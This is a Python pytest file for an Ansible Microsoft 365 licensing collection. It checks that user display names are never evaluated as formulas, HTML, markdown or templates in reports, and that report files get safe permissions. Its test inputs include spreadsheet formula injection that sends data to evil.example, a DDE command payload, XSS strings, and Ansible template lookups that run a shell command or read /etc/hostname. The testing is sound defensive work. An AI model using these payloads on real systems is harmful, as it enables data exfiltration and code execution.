# Copyright (c) 2026 m365.licensing contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Names that users choose are never evaluated by readers of reports."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from tests.integration.people import admit
from tests.simulator.launch import running
from tests.support.run_playbook import play

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "a|b|c `d` **e** ~~f~~",
    "{{ 1+1 }}",
    "{% for x in [1, 2] %}{{ x }}{% endfor %}",
    "{# a comment #}",
    "{{ lookup('ansible.builtin.pipe', 'touch PWNED') }}",
    "{{ lookup('ansible.builtin.file', '/etc/hostname') }}",
    "!unsafe x: &y *z",
    "a&amp;b %s %(x)s {0} $(id) \\n",
    "# heading",
    "--- : 'x\"",
]
PEOPLE: dict[str, dict[str, Any]] = {
    f"{name}@contoso.example": {"properties": {"displayName": f"{name}\n{name}", "department": name, "jobTitle": name}}
    for name in NAMES
}
# Rules are their author's and are templated like all variables, so these name nobody with braces.
RULES = [
    {"name": "Some", "match": {"department": NAMES[:8]}, "licenses": [{"sku": "EXCHANGESTANDARD"}]},
    {"name": "None", "match": {"job_title": NAMES[8]}, "action": "ignore", "reason": "Left as they are"},
]
OWN = {
    "hosts": "localhost",
    "gather_facts": False,
    "tasks": [
        {
            "m365.licensing.exo_unlicensed_mailbox_info": {"output_path": "{{ folder }}/reports/rows.jsonl"},
        },
        {"m365.licensing.exo_unlicensed_mailbox_info": {}, "register": "found"},
        {
            "ansible.builtin.debug": {"msg": "{{ again }}"},
            "vars": {"names": "{{ found.mailboxes | map(attribute='display_name') }}", "again": "{{ names | list }}"},
        },
    ],
}
"""Tasks that use a result in variables of variables."""


@contextmanager
def umask(mask: int) -> Iterator[None]:
    """Set the umask of processes that start within."""
    before = os.umask(mask)
    try:
        yield
    finally:
        os.umask(before)


def cells(markdown: str) -> list[str]:
    """Return the cells of all tables as a browser shows them. Fails if a name is more than text."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(markdown)
    found = []
    for token in tokens:
        assert token.type != "html_block", token.content
        for part in token.children or ():
            assert part.type in ("text", "text_special", "strong_open", "strong_close", "softbreak"), part
            if part.type.startswith("strong"):
                assert re.match(r"\*\*(\d+ |This plan)", token.content), token.content
        found.append("".join(part.content for part in token.children or ()))
    return found


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """The folder with all reports, and the output. The umask is the worst one, and others were there before."""
    folder = tmp_path_factory.mktemp("names")
    reports = folder / "reports"
    reports.mkdir(mode=0o755)
    for name in ("precious-audit", "precious-md"):
        (folder / name).write_text("precious")
        (folder / name).chmod(0o644)
    (reports / "localhost-audit.json").symlink_to(folder / "precious-audit")
    (reports / "localhost.md").symlink_to(folder / "precious-md")
    (reports / "localhost.json").write_text("old")
    (reports / "localhost.json").chmod(0o666)
    quiet = {"license_state_fail_on": "none"}
    plays = [{"import_playbook": f"m365.licensing.{name}", "vars": quiet} for name in ("audit", "remediate")]
    (folder / "play.yml").write_text(json.dumps([*plays, OWN]), encoding="utf-8")
    variables = {
        "license_state_report_dir": str(folder / "reports"),
        "license_state_rules": RULES,
        "license_state_mode": "plan",
    }
    with running(mailboxes=5, at_risk=0) as tenant, umask(0):
        admit(tenant.world, PEOPLE)
        done = play(tenant, "play.yml", folder, "--diff", variables=variables)
    assert done.status == 0, str(done)
    return folder, done.output


def test_ansible_evaluates_no_name(played: tuple[Path, str]) -> None:
    folder, output = played
    assert not list(folder.rglob("PWNED"))
    for upn, person in PEOPLE.items():
        assert json.dumps(upn)[1:-1] in output, upn
        assert json.dumps(person["properties"]["displayName"]) in output, upn


def test_json_report_holds_unescaped_names(played: tuple[Path, str]) -> None:
    folder, _output = played
    for name in ("localhost-audit.json", "localhost.json"):
        report = json.loads((folder / "reports" / name).read_text(encoding="utf-8"))
        rows = {row["user_principal_name"]: row for row in report.get("mailboxes") or report["users"]}
        assert set(PEOPLE) <= set(rows), name
        for upn, person in PEOPLE.items():
            assert rows[upn].get("display_name", "") in ("", person["properties"]["displayName"])
    lines = (folder / "reports" / "rows.jsonl").read_text(encoding="ascii").splitlines()
    assert {json.loads(line)["user_principal_name"] for line in lines} >= set(PEOPLE)


def test_browsers_and_spreadsheets_show_names_as_text(played: tuple[Path, str]) -> None:
    folder, _output = played
    markdown = (folder / "reports" / "localhost.md").read_text(encoding="utf-8")
    assert set(PEOPLE) <= set(cells(markdown))
    for line in markdown.splitlines():
        for cell in (part.strip() for part in re.split(r"(?<!\\)\|", line) if line.startswith("|")):
            assert not cell.startswith(("=", "+", "@")), cell
            assert not re.match(r"-[^-]", cell), cell


def test_reports_are_readable_by_their_owner_alone(played: tuple[Path, str]) -> None:
    folder, _output = played
    assert (folder / "reports").stat().st_mode & 0o777 == 0o755, "a directory that was there keeps its mode"
    files = {path.name: path.lstat().st_mode & 0o777 for path in (folder / "reports").iterdir()}
    assert files == dict.fromkeys(
        ("localhost-audit.json", "localhost-audit.md", "localhost.json", "localhost.md", "rows.jsonl"), 0o600
    )
    for name in ("precious-audit", "precious-md"):
        assert (folder / name).read_text() == "precious", "a link is replaced and not followed"
        assert (folder / name).stat().st_mode & 0o777 == 0o644
